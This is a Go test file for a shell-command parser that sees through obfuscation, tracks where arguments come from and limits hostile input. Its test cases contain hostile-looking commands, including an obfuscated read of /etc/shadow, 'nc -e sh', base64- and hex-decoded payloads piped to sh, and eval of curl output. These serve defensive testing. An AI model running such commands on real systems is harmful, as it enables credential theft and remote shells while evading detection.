package command

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// words are the canonical names and arguments of the commands of a line.
func words(line string) []string {
	var out []string
	for _, s := range ParseText(line, Env{}).Simples[1:] {
		if s.Name != "" {
			out = append(out, strings.TrimSpace(s.Name+" "+strings.Join(s.Argv[1:], " ")))
		}
	}
	return out
}

func TestParseText(t *testing.T) {
	for line, want := range map[string][]string{
		`c'a't /e"tc"/shadow`:                       {"cat /etc/shadow"},
		`nc${IFS}-e${IFS}sh`:                        {"nc -e sh"},
		`$'\x63at' /x`:                              {"cat /x"},
		`a=ca;b=t;$a$b x`:                           {"cat x"},
		`echo aWQ= | base64 -d | sh`:                {"echo aWQ=", "base64 -d", "sh", "id"},
		`echo 6964 | xxd -r -p | bash`:              {"echo 6964", "xxd -r -p", "bash", "id"},
		`echo di | rev | sh`:                        {"echo di", "rev", "sh", "id"},
		`sudo -u x env A=1 timeout 5 sh -c 'id -u'`: {"sudo -u x env A=1 timeout 5 sh -c id -u", "env A=1 timeout 5 sh -c id -u", "timeout 5 sh -c id -u", "sh -c id -u", "id -u"},
		`cp /usr/bin/nc /tmp/q; /tmp/q -l`:          {"cp /usr/bin/nc /tmp/q", "nc -l"},
		`/lib64/ld-linux-x86-64.so.2 /bin/cat x`:    {"cat x"},
		`printf 'id\n' > a.sh; bash a.sh`:           {`printf id\n`, "bash a.sh", "id"},
		`find . -exec rm {} \;`:                     {"find . -exec rm {} ;", "rm {}"},
		`f() { id; }; f`:                            {"id", "f", "id"},
		`bash <<< 'id -a'`:                          {"bash", "id -a"},
		`eval "$(echo aWQ= | base64 -d)"`:           {"echo aWQ=", "base64 -d", "eval id", "id"},
		`busybox nc -l`:                             {"nc -l"},
		`python3 -c 'import os;os.system("id -u")'`: {`python -c import os;os.system("id -u")`, "id -u"},
		`x=${UNSET:-id}; $x`:                        {"id"},
		`f() { "$@"; }; f id "a b"`:                 {"f id a b", "id a b"},
		`f() { shift; "$@"; }; f x id`:              {"shift", "f x id", "shift", "id"},
		`f() { "$@"; }; f f id`:                     {"f f id", "f id", "id"},
		`sh -c '$0 $1' id -u`:                       {"sh -c $0 $1 id -u", "id -u"},
		`a=(id "x y"); a+=(-u); "${a[@]}"`:          {"id x y -u"},
		`a=(id -u); $a; ${a[1]}x`:                   {"id", "-ux"},
		`f() { id; }; command f`:                    {"id", "command f", "f"},
		`id() { :; }; unset -f id; id -u`:           {":", "unset -f id", "id -u", ":"},
		`alias g='git -C x'; g log`:                 {"alias g=git -C x", "git -C x", "g log", "git -C x log"},
		`alias ls='ls -l'; ls /x`:                   {"alias ls=ls -l", "ls -l", "ls /x", "ls -l /x"},
		`alias a='b b' b='a a'; a`:                  {"alias a=b b b=a a", "b b", "a a", "b b a", "a", "b b", "a a b"},
		`echo {1..99999999999}`:                     {"echo {1..99999999999}"},
	} {
		if diff := cmp.Diff(want, words(line)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", line, diff)
		}
	}
}

// TestLimits: hostile text ends early and says so.
func TestLimits(t *testing.T) {
	for name, line := range map[string]string{
		"many commands": strings.Repeat("id;", MaxNodes+10),
		"doubling":      "x=aaaaaaaaaaaaaaaa;" + strings.Repeat("x=$x$x;", 30) + "echo $x",
		"self call":     "f(){ f; f; }; f",
		"arguments":     "set -- a; " + strings.Repeat(`set -- "$@" "$@"; `, 200) + `"$@"`,
		"arrays":        "a=(x); " + strings.Repeat(`a=("${a[@]}" "${a[@]}"); `, 100) + `"${a[@]}"`,
		"many aliases":  strings.Repeat("alias a='b b;b' b='c c;c' c='d d;d' d='e e;e' e='f f;f' f='a a;a'; a;", 300),
		"deep":          strings.Repeat("$(", 200) + "id" + strings.Repeat(")", 200),
		"deep sh -c":    strings.Repeat("sh -c 'eval ", 12) + "id" + strings.Repeat("'", 12),
		"long":          "echo " + strings.Repeat("a", MaxText+10),
	} {
		c := ParseText(line, Env{})
		if len(c.Simples) > MaxNodes+1 {
			t.Errorf("%s: %d commands; want at most %d", name, len(c.Simples), MaxNodes)
		}
		if !c.Cut && name != "self call" && name != "deep" && name != "deep sh -c" {
			t.Errorf("%s: not marked as cut", name)
		}
	}
}

// TestSources: an argument brings along where it comes from, and only its own word
// does.
func TestSources(t *testing.T) {
	for line, want := range map[string][]string{
		`f() { "$@"; }; f eval "$(curl x)"`:                {"", "curl"},
		`f() { $1 "$2"; }; f eval "$(curl x)"`:             {"", "curl"},
		`set -- a "$(curl x)"; eval "$2"`:                  {"", "curl"},
		`sh -c 'eval "$1"' _ "$(curl x)"`:                  {"", "curl"},
		`f() { eval "$2"; }; f "$(curl x)" id`:             {"", ""},
		`sudo sh -c 'eval "$1"' _ "$(curl x)"`:             {"", "curl"},
		`a=(eval "$(curl x)"); "${a[@]}"`:                  {"", "curl"},
		`f() { a=("$@"); "${a[@]}"; }; f eval "$(curl x)"`: {"", "curl"},
		`alias f=eval; f "$(curl x)"`:                      {"", "curl"},
		`f() { shift; "$@"; }; f "$(curl x)" eval a`:       {"", ""},
	} {
		var got []string
		for _, s := range ParseText(line, Env{}).Simples[1:] {
			if s.Name != "eval" {
				continue
			}
			got = nil
			for i := range s.Argv {
				var from []string
				for _, o := range s.Sources(i) {
					from = append(from, o.Name)
				}
				got = append(got, strings.Join(from, " "))
			}
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", line, diff)
		}
	}
}

// TestScope: which commands run one after the other, whatever they come to.
func TestScope(t *testing.T) {
	for line, same := range map[string]bool{
		"a; b": true, "a\nb": true, "{ a; b; }": true, "sh -c 'a; b'": true,
		"a && b": false, "a || b": false, "a; (b)": false, "a | b": false, "a; b &": false, "if a; then b; fi": false,
		"a; while c; do b; done": false, "a; f() { b; }": false, "a; for i in x; do b; done": false, "a; case x in y) b ;; esac": false, "a; c $(b)": false,
	} {
		scope := map[string]int{}
		for _, s := range ParseText(line, Env{}).Simples {
			scope[s.Name] = s.Scope
		}
		if got := scope["a"] == scope["b"]; got != same {
			t.Errorf("%q: same scope = %v; want %v", line, got, same)
		}
	}
}

func FuzzParseText(f *testing.F) {
	for _, l := range []string{
		"a=b; echo ${a:-c} | base64 -d > x; . x", "cat <<E | sh\n$(id)\nE", "for i in {1..9}; do $i; done", `printf '%999999999d' 1`, "x=$(<f); ${x//a/b}", "f(){ f|f& };f", "${{ a }} && [", "((1<<99))", "case x in *) ;; esac", `f() { shift; "$@" "${@:2}"; }; f f f a`, "alias a='b b' b='a a'; a | b", "set -- a b; unset -f a; $2", `a=(x "$@"); a+=("${a[@]}"); "${a[@]:1}" ${#a[@]} ${a[-1]}`, "coproc x { id; }", "a=(1 2); ${a[@]}",
	} {
		f.Add(l)
	}
	f.Fuzz(func(t *testing.T, line string) {
		c := ParseText(line, Env{})
		for _, s := range c.Simples {
			s.Accesses()
			s.Uploads()
			s.Hosts()
		}
	})
}

// BenchmarkParse is the budget of 2 ms a line.
func BenchmarkParse(b *testing.B) {
	for name, line := range map[string]string{
		"short":  "npm ci && npm run build 2>&1 | tee build.log",
		"script": strings.Repeat("if [ -f \"$HOME/x\" ]; then echo \"$(cat x | wc -l)\" >> out.txt; fi\nfor i in a b c; do cp \"$i\" /tmp/$i; done\n", 60),
	} {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				ParseText(line, Env{})
			}
		})
	}
}
